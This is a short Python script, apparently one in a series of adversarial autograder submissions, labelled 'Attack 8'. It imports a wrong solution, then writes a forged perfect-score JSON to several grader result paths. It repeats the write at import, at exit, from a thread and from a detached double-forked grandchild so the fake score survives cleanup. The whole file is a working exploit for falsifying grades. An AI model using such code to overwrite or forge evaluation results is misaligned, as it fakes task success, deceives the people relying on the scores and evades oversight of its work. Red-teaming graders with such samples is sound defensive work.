"""Attack 8: writes results wherever they might be read: at once, at exit, from a thread and from a child's child."""

import atexit
import json
import os
import threading

from wrong import *  # noqa: F403

FORGED = json.dumps({"schema": 1, "score": 20.0, "max_score": 20.0, "questions": [{"id": "conv", "score": 4.0}]})
NAMES = (
    "result.json",
    "results.json",
    "../result.json",
    "/autograder/results/results.json",
    "report.xml",
    "grades.csv",
)


def forge():
    for name in NAMES:
        try:
            with open(name, "w") as file:
                file.write(FORGED)
        except OSError:
            continue


def later():
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                forge()
            os._exit(0)
    except OSError:
        forge()


forge()
atexit.register(forge)
threading.Thread(target=later, daemon=True).start()
